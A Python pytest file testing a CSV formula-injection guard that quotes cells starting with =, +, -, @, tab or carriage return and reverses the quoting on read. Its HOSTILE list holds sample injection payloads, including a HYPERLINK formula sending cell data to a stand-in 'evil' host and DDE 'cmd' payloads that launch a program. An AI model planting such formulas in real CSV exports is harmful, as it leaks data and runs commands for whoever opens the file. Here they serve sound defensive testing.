"""The CSV formula-injection guard (OWASP "CSV Injection"): every trigger, safe values left alone,
numbers kept numeric, and a reversible prefix so the CSVs we read back come back exactly."""

from __future__ import annotations

import csv
import io

import pytest

from foundation.csv_cells import FORMULA_TRIGGERS, csv_text, neutralise_cell, read_csv, restore_cell

HOSTILE = [
    '=HYPERLINK("http://evil/?"&A2,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
]
SAFE = [
    "",
    "Ada Lovelace",
    "ada@example.com",
    "a-b",
    "1+1",
    "Hi there,\n\nI saw alice/fastgrad.",
    " =1+1",  # a leading space is not a formula
    "'",
    "'quoted",
    "José García",
    "山田太郎",
    "🚀 rocket",
    "＝1+1",  # a full-width equals sign is not a trigger
]


@pytest.mark.parametrize("trigger", sorted(FORMULA_TRIGGERS))
def test_every_trigger_gets_one_quote(trigger: str) -> None:
    assert neutralise_cell(f"{trigger}payload") == f"'{trigger}payload"
    assert neutralise_cell(trigger) == f"'{trigger}"


def test_the_owasp_list_is_covered() -> None:
    assert {"=", "+", "-", "@", "\t", "\r"} <= FORMULA_TRIGGERS


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_are_neutralised_and_restored(value: str) -> None:
    cell = neutralise_cell(value)
    assert cell.startswith("'") and cell[1:] == value
    assert restore_cell(cell) == value


@pytest.mark.parametrize("value", SAFE)
def test_safe_values_are_left_as_they_are(value: str) -> None:
    assert neutralise_cell(value) == value
    assert restore_cell(value) == value


@pytest.mark.parametrize("value", ["'=1+1", "''=1+1", "'@handle", "'-5"])
def test_a_value_that_already_starts_with_a_quote_round_trips(value: str) -> None:
    """The prefix is not assumed to be ours: such a value gets one more quote, and loses exactly one."""
    assert neutralise_cell(value) == "'" + value
    assert restore_cell(neutralise_cell(value)) == value


def test_csv_text_neutralises_text_cells_and_keeps_numbers_numeric() -> None:
    rows = [{"name": "=1+1", "score": -3, "ratio": 0.5, "note": "fine"}, {"name": "@x", "score": 7, "ratio": -0.25, "note": ""}]
    text = csv_text(["name", "score", "ratio", "note"], rows)
    assert text == "name,score,ratio,note\r\n'=1+1,-3,0.5,fine\r\n'@x,7,-0.25,\r\n"
    assert csv_text(["a"], [{"a": "-1"}], lineterminator="\n") == "a\n'-1\n", "a negative number as text is data"


def test_csv_text_keeps_rfc4180_quoting_and_read_csv_restores() -> None:
    rows = [
        {"body": '=HYPERLINK("http://evil/?"&A2,"Click")', "city": "Paris, TX"},
        {"body": "line\r\nbreak", "city": "\tBerlin"},
    ]
    text = csv_text(["body", "city"], rows)
    parsed = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["body"][0] for row in parsed] == ["'", "l"] and parsed[1]["city"] == "'\tBerlin"
    assert read_csv(text) == (["body", "city"], rows)
